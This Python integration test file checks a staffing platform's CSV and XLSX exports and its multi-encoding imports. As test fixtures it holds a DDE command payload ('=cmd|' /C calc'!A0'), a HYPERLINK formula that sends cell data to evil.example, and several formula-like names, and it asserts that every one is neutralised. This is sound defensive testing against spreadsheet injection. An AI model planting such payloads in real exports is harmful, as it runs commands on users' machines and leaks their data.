"""Issue 13 items 4 and 22 through the real services: every export is a BOM'd UTF-8 CSV with Chinese
headers (English with ``?lang=en``) or an .xlsx workbook, text cells a spreadsheet would run as a formula
are neutralised, payroll's columns say what they hold, and every import reads UTF-8, GBK, GB18030 and
.xlsx alike and refuses unreadable bytes with a 422 that changes nothing."""

from __future__ import annotations

import csv
import datetime as dt
import io
from collections.abc import Callable
from pathlib import Path
from typing import Any

from openpyxl import Workbook, load_workbook

from tests.integration import test_billing_payroll as billing
from tests.integration import test_onboarding_api as onboarding
from tests.integration import test_recruitment_api as recruitment
from tests.integration import test_scheduling_api as scheduling
from tests.support import ServiceHarness

PROBLEM = "application/problem+json"
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
#: a name a spreadsheet would run: a classic DDE payload and a link that leaks data when clicked
EVIL_NAME = "=cmd|' /C calc'!A0"


def csv_rows(response: Any) -> list[list[str]]:
    assert response.status_code == 200, response.get_data(as_text=True)
    assert response.content_type == "text/csv; charset=utf-8"
    assert response.data.startswith(b"\xef\xbb\xbf")
    text = response.data.decode("utf-8")[1:]
    assert text.endswith("\r\n") and "\n" not in text.replace("\r\n", "")
    return list(csv.reader(io.StringIO(text, newline="")))


def sheet_rows(response: Any) -> list[list[Any]]:
    """The first sheet's cells as (value, openpyxl data type) pairs."""
    assert response.status_code == 200, response.get_data(as_text=True)
    assert response.content_type == XLSX
    book = load_workbook(io.BytesIO(response.data))
    return [[(c.value, c.data_type) for c in row] for row in book.worksheets[0].iter_rows()]


def xlsx_bytes(rows: list[list[Any]]) -> bytes:
    book = Workbook()
    ws = book.active
    assert ws is not None
    for row in rows:
        ws.append(row)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


# --- billing: the payroll export and the performance import -----------------------------------------------


def _hourly_run(h: ServiceHarness) -> tuple[str, str]:
    """One hourly agent with a formula-like name: 8 h × 20.00 = 160.00, a 50.00 penalty, 110.00 net."""
    project, agent = billing._id(), billing._id()
    billing.feed(h, "project.confirmed", billing.confirmed(project))
    billing.feed(h, "agent.admitted", billing.admitted(project, agent, EVIL_NAME, dt.date(2026, 8, 1)))
    plan = {
        "project_id": project,
        "type": "hourly",
        "hourly_rate": "20.00",
        "effective_from": "2026-09-01",
    }
    assert billing.post(h, "/pay-plans", plan).status_code == 201
    worked = {"project_id": project, "agent_id": agent, "date": dt.date(2026, 9, 1), "hours": "8"}
    billing.feed(h, "shift.worked", worked)
    billing.feed(h, "complaint.upheld", billing.upheld(project, agent, "50.00", dt.date(2026, 9, 2)))
    run = billing.post(h, "/payroll-runs", {"period": "2026-09"})
    assert run.status_code == 201, run.get_json()
    assert run.get_json()["total"] == "110.00"
    return run.get_json()["id"], agent


def test_payroll_export_csv_neutralises_text_keeps_money_numeric_and_names_its_columns(
    service_env: Callable[..., ServiceHarness],
) -> None:
    h = service_env("billing")
    run_id, agent = _hourly_run(h)

    export = billing.get(h, f"/payroll-runs/{run_id}/export")
    assert "filename*=UTF-8''payroll-2026-09.csv" in export.headers["Content-Disposition"]
    header, row = csv_rows(export)
    assert header == [
        "核算批次", "薪资周期", "状态", "项目编号", "坐席编号", "姓名", "计薪方式",
        "基本工资(元)", "计时工资(元)", "提成(元)", "扣款(元)", "调整(元)", "应发合计(元)", "明细",
    ]  # fmt: skip
    cells = dict(zip(header, row, strict=True))
    assert cells["姓名"] == "'" + EVIL_NAME
    assert (cells["计时工资(元)"], cells["扣款(元)"], cells["应发合计(元)"]) == ("160.00", "-50.00", "110.00")

    english = csv_rows(billing.get(h, f"/payroll-runs/{run_id}/export?lang=en"))
    named = dict(zip(english[0], english[1], strict=True))
    assert "hours" not in named  # the old column held money under the name of a time
    assert (named["hourly_pay"], named["deductions"], named["total"]) == ("160.00", "-50.00", "110.00")
    assert named["agent_id"] == agent

    assert_problem(billing.get(h, f"/payroll-runs/{run_id}/export?format=pdf"), 422)
    assert_problem(billing.get(h, f"/payroll-runs/{run_id}/export?lang=fr"), 422)


def test_payroll_export_as_xlsx_by_parameter_or_accept_header(
    service_env: Callable[..., ServiceHarness],
) -> None:
    h = service_env("billing")
    run_id, _agent = _hourly_run(h)
    by_query = billing.get(h, f"/payroll-runs/{run_id}/export?format=xlsx")
    assert "payroll-2026-09.xlsx" in by_query.headers["Content-Disposition"]
    by_accept = h.client.get(
        f"/api/v1/payroll-runs/{run_id}/export", headers={**h.auth("finance"), "Accept": XLSX}
    )
    for response in (by_query, by_accept):
        header, row = sheet_rows(response)
        values = {name: cell for (name, _), cell in zip(header, row, strict=True)}
        assert values["姓名"] == (EVIL_NAME, "s")  # a string, never a formula, and no apostrophe
        assert values["计时工资(元)"] == (160, "n")
        assert values["扣款(元)"] == (-50, "n")
        assert values["应发合计(元)"] == (110, "n")


def assert_problem(response: Any, status: int) -> dict[str, Any]:
    assert response.status_code == status, response.get_data(as_text=True)
    assert response.content_type == PROBLEM
    return response.get_json()


def _import(h: ServiceHarness, body: bytes, name: str) -> Any:
    return h.client.post(
        "/api/v1/performance/import",
        data={"file": (io.BytesIO(body), name)},
        headers=h.auth("finance"),
        content_type="multipart/form-data",
    )


def test_performance_import_reads_gbk_gb18030_and_xlsx_with_chinese_headers(
    service_env: Callable[..., ServiceHarness],
) -> None:
    h = service_env("billing")
    project, agent = billing._id(), billing._id()
    billing.feed(h, "project.confirmed", billing.confirmed(project))
    billing.feed(h, "agent.admitted", billing.admitted(project, agent, "李四", dt.date(2026, 8, 1)))
    header = "项目编号,坐席编号,日期,销售额,平均响应秒数,响应率,咨询量\r\n"
    for day, encoding in ((1, "gbk"), (2, "gb18030")):
        text = header + f"{project},{agent},2026-09-0{day},1{day}0.00,20,0.99,80\r\n"
        imported = _import(h, text.encode(encoding), f"perf-{encoding}.csv")
        assert imported.status_code == 200, imported.get_data(as_text=True)
        assert imported.get_json()["created"] == 1
    workbook = xlsx_bytes(
        [
            ["project_id", "agent_id", "date", "sales_amount", "avg_response_seconds", "response_rate",
             "consultations"],
            [project, agent, dt.date(2026, 9, 3), 130.5, 20, 0.97, 90],
        ]
    )  # fmt: skip
    imported = _import(h, workbook, "perf.xlsx")
    assert imported.status_code == 200, imported.get_data(as_text=True)
    stored = billing.get(h, f"/performance?agent_id={agent}").get_json()["items"]
    assert sorted((p["date"], p["sales_amount"]) for p in stored) == [
        ("2026-09-01", "110.00"),
        ("2026-09-02", "120.00"),
        ("2026-09-03", "130.50"),
    ]

    garbage = (
        header.encode("utf-8") + f"{project},{agent},2026-09-04,1.00,20,0.99,1\r\n".encode() + b"\xff\xfe"
    )
    body = assert_problem(_import(h, garbage, "bad.csv"), 422)
    assert "UTF-8, GBK or GB18030" in body["detail"]
    assert len(billing.get(h, f"/performance?agent_id={agent}").get_json()["items"]) == 3


# --- recruitment: the talent-pool import ----------------------------------------------------------------


def test_candidate_import_reads_gbk_and_xlsx_and_refuses_undecodable_bytes(
    service_env: Callable[..., ServiceHarness],
) -> None:
    h = service_env("recruitment")
    gbk = ("姓名,手机,技能,班次,基础培训通过,基础分,城市\n张三,13800138000,售前,早班,是,80,杭州\n").encode(
        "gbk"
    )
    imported = recruitment.upload(h, gbk)
    assert imported.status_code == 200, imported.get_data(as_text=True)
    workbook = xlsx_bytes(
        [
            ["姓名", "手机", "技能", "班次", "基础培训通过", "基础分", "经验月数"],
            ["李四", 13900139000, "售后", "晚班", "否", 75.5, 6],
            [None, None, None, None, None, None, None],
        ]
    )
    imported = h.client.post(
        "/api/v1/candidates/import",
        data=workbook,
        content_type=XLSX,
        headers=h.auth("vendor"),
    )
    assert imported.status_code == 200, imported.get_data(as_text=True)
    assert imported.get_json()["created"] == 1
    listed = h.client.get("/api/v1/candidates?per_page=10", headers=h.auth("vendor")).get_json()["items"]
    assert sorted((c["name"], c["city"], c["basic_score"]) for c in listed) == [
        ("张三", "杭州", 80.0),
        ("李四", None, 75.5),
    ]

    body = assert_problem(recruitment.upload(h, gbk.replace(b"\xd5\xc5", b"\xff\xff")), 422)
    assert "UTF-8, GBK or GB18030" in body["detail"]
    assert recruitment.pool_size(h) == 2


# --- scheduling: the roster and the timesheets ------------------------------------------------------------


def test_roster_and_timesheet_exports_neutralise_names_and_notes(
    service_env: Callable[..., ServiceHarness],
) -> None:
    h = service_env("scheduling", env=scheduling.ENV)
    project_id, _merchant = scheduling.seed(h, agents=0, seats=1)
    occurred = (dt.datetime.now(dt.UTC) - dt.timedelta(days=3)).isoformat()
    with h.database.session() as session:
        for i, name in enumerate(("=1+2", "+86 138", "-A1", "@SUM(A1)")):
            scheduling.apply_event(
                session, "agent.admitted", {**scheduling.admitted(project_id, i), "name": name}, occurred
            )
    vendor = h.auth("vendor")
    made = h.client.post(
        f"/api/v1/projects/{project_id}/roster",
        json={"from": scheduling.days(1), "to": scheduling.days(2)},
        headers=vendor,
    )
    assert made.status_code == 201, made.get_data(as_text=True)

    header, *rows = csv_rows(h.client.get(f"/api/v1/projects/{project_id}/roster.csv", headers=vendor))
    assert header[:9] == [
        "日期",
        "班次",
        "开始",
        "结束",
        "工时(小时)",
        "坐席编号",
        "坐席姓名",
        "岗位",
        "排班版本",
    ]
    assert len(rows) == 2
    for row in rows:
        cells = dict(zip(header, row, strict=True))
        assert cells["坐席姓名"][:1] == "'" and cells["坐席姓名"][1:] in (
            "=1+2",
            "+86 138",
            "-A1",
            "@SUM(A1)",
        )
        assert cells["工时(小时)"] == "8.00"
    english = csv_rows(h.client.get(f"/api/v1/projects/{project_id}/roster.csv?lang=en", headers=vendor))
    assert english[0][:5] == ["date", "shift", "start", "end", "hours"]

    workbook = sheet_rows(h.client.get(f"/api/v1/projects/{project_id}/roster.xlsx", headers=vendor))
    first = dict(zip([name for name, _ in workbook[0]], workbook[1], strict=True))
    assert first["坐席姓名"][1] == "s" and first["坐席姓名"][0] in ("=1+2", "+86 138", "-A1", "@SUM(A1)")
    assert first["日期"][1] == "d" and first["工时(小时)"] == (8, "n")

    entry = {
        "project_id": project_id,
        "agent_id": scheduling.agent_id(project_id, 0),
        "date": scheduling.days(-1),
        "hours": "7.5",
        "note": '=HYPERLINK("http://evil.example/?"&A1)',
    }
    assert h.client.post("/api/v1/timesheets", json=entry, headers=vendor).status_code == 201
    header, row = csv_rows(h.client.get(f"/api/v1/timesheets.csv?project_id={project_id}", headers=vendor))
    cells = dict(zip(header, row, strict=True))
    assert cells["备注"] == "'" + entry["note"]
    assert (cells["工时(小时)"], cells["当前有效"]) == ("7.50", "是")
    assert cells["录入时间"].endswith("+08:00")
    header, row = sheet_rows(h.client.get(f"/api/v1/timesheets.xlsx?project_id={project_id}", headers=vendor))
    cells = dict(zip([name for name, _ in header], row, strict=True))
    assert cells["备注"] == (entry["note"], "s")
    assert cells["工时(小时)"] == (7.5, "n")


# --- onboarding: the FAQ sheet ----------------------------------------------------------------------------


def test_faq_export_as_xlsx_and_with_english_headers(
    service_env: Callable[..., ServiceHarness], tmp_path: Path
) -> None:
    h = service_env("onboarding", overrides={"media_root": str(tmp_path / "media")})
    m = onboarding.merchant(h, "m-faq")
    pid = onboarding.create(h, m, {"merchant": {"company_name": "杭州店"}})["id"]
    sheet = onboarding.all_answers()
    sheet["standard"][0]["answer"] = '=HYPERLINK("x")'
    assert h.client.put(f"/api/v1/projects/{pid}/faq", json=sheet, headers=m).status_code == 200

    rows = csv_rows(h.client.get(f"/api/v1/projects/{pid}/faq/export?lang=en", headers=m))
    assert rows[0] == ["no", "type", "key", "question", "answer"]
    assert rows[1][1] == "standard" and rows[1][4] == '\'=HYPERLINK("x")'
    assert rows[-1][1] == "custom"

    workbook = h.client.get(f"/api/v1/projects/{pid}/faq/export?format=xlsx", headers=m)
    assert "faq-%E6%9D%AD%E5%B7%9E%E5%BA%97.xlsx" in workbook.headers["Content-Disposition"]
    header, first, *_ = sheet_rows(workbook)
    assert [name for name, _ in header] == ["序号", "类型", "键", "问题", "答案或话术"]
    assert first[0] == (1, "n") and first[4] == ('=HYPERLINK("x")', "s")
